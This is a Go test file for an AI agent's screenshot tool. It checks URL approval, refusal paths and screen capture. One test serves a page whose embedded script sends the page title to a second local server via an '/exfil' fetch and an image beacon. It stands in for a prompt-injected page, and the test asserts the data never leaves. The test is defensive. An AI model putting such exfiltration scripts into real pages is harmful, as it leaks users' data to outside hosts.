package screenshot

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/agentls/agentls/tools"
	"github.com/agentls/agentls/tools/vision"
)

type approver struct {
	refuse error
	asked  []string
}

func (a *approver) Approve(_ context.Context, raw string) (*url.URL, error) {
	a.asked = append(a.asked, raw)
	if a.refuse != nil {
		return nil, a.refuse
	}
	return url.Parse(raw)
}

type images struct {
	mu  sync.Mutex
	got []tools.Image
}

func (i *images) AttachImage(img tools.Image) error {
	i.mu.Lock()
	defer i.mu.Unlock()
	i.got = append(i.got, img)
	return nil
}

func needChromium(t *testing.T) {
	t.Helper()
	if !Available() {
		t.Skip("Chromium is not installed (Debian: apt install chromium): the screenshot tests need it")
	}
}

// TestScreenshot renders a local page and sends its image. The page is
// the attack too: its image, stylesheet and script reach for another
// local server (a stand-in for any other host, where a prompt-injected
// page would send what it read); that server gets no request.
func TestScreenshot(t *testing.T) {
	needChromium(t)
	var other atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		other.Add(1)
	}))
	defer elsewhere.Close()
	var hits atomic.Int32
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintf(w, `<html><head><link rel="stylesheet" href="%[1]s/style.css"></head>
<body style="background:#fff"><h1>Hello, screenshot</h1><img src="%[1]s/pixel.png">
<script>fetch(%[2]q + "/exfil?d=" + document.title); new Image().src = %[2]q + "/beacon";</script></body></html>`, elsewhere.URL, elsewhere.URL)
	}))
	defer page.Close()

	ims := &images{}
	ctx := tools.WithImageAttacher(context.Background(), ims)
	a := &approver{}
	out, err := Take(ctx, a, urlArg(tools.ToolUse{Tool: "screenshot", Content: page.URL + "/"}), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(ims.got) != 1 || ims.got[0].Width != ViewportWidth || ims.got[0].Height != ViewportHeight {
		t.Fatalf("images attached: %d (%+v)", len(ims.got), ims.got)
	}
	if !strings.HasPrefix(out, "(image screenshot of "+page.URL+"/, 1280×800, sent") {
		t.Errorf("result %q", out)
	}
	if hits.Load() == 0 {
		t.Error("the page got no request")
	}
	if n := other.Load(); n != 0 {
		t.Errorf("the page's scripts and images reached another server %d times", n)
	}
	if len(a.asked) != 1 {
		t.Errorf("asked %q, want the URL once", a.asked)
	}
}

// TestScreenshotRefused: a URL the user declines gets no request, and
// Chromium does not start; the vision setting off refuses before asking.
func TestScreenshotRefused(t *testing.T) {
	var hits atomic.Int32
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer page.Close()
	ctx := tools.WithImageAttacher(context.Background(), &images{})
	for _, tc := range []struct {
		name string
		a    *approver
		opts Options
		want string
	}{
		{"declined", &approver{refuse: errors.New("the user declined to fetch it")}, Options{Chromium: "/nonexistent"}, "the user declined"},
		{"vision off", &approver{}, Options{Vision: vision.Options{Mode: vision.ModeOff}}, "the vision setting is off"},
		{"no URL", &approver{}, Options{}, "no URL given"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			raw := page.URL
			if tc.name == "no URL" {
				raw = ""
			}
			_, err := Take(ctx, tc.a, raw, tc.opts)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err = %v, want %q", err, tc.want)
			}
		})
	}
	if hits.Load() != 0 {
		t.Errorf("the page got %d requests", hits.Load())
	}
}

// TestScreenMode: `screenshot screen` is the X screen, grabbed by what
// the workspace gives (the computer tool's screenshot action, asked as
// that is); where there is none, the model reads why and what to give.
func TestScreenMode(t *testing.T) {
	ctx := context.Background()
	called := 0
	opts := Options{Chromium: "/nonexistent", Screen: func(context.Context) (string, error) {
		called++
		return "(image screenshot of the screen :99, 1024×768, sent)", nil
	}}
	got, err := Take(ctx, nil, "screen", opts)
	if err != nil || called != 1 || !strings.Contains(got, "screenshot of the screen") {
		t.Errorf("Take(screen) = %q, %v after %d grabs", got, err, called)
	}
	opts.Screen = nil
	if _, err := Take(ctx, nil, "screen", opts); err == nil || !strings.Contains(err.Error(), "no X screen") {
		t.Errorf("Take(screen) without a screen: %v", err)
	}
}
